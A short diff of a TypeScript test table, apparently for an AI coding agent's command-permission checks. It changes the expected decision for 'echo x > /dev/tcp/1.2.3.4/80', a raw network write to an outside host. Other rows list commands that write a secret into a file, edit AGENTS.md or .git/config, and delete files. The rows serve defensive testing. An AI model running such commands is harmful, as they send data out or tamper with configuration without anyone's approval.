@@ -286,7 +286,7 @@ const tables: Readonly<Record<string, readonly Row[]>> = {
     ['auto', "cat > src/new.ts <<EOF\n$SECRET\nEOF", 'ask command once'],
     ['auto', 'echo x > AGENTS.md', 'ask dotConfig [edit(AGENTS.md)]'],
     ['auto', 'echo x > src/HEAD', 'ask repositoryInternals once'],
-    ['auto', 'echo x > /dev/tcp/1.2.3.4/80', 'ask outside [edit(/dev/tcp/1.2.3.4/80)]'],
+    ['auto', 'echo x > /dev/tcp/1.2.3.4/80', 'ask command outside once'],
     ['auto', 'rm src/a.ts', 'ask command once'],
     ['auto', 'tee .git/config', 'ask command repositoryInternals once'],
   ],
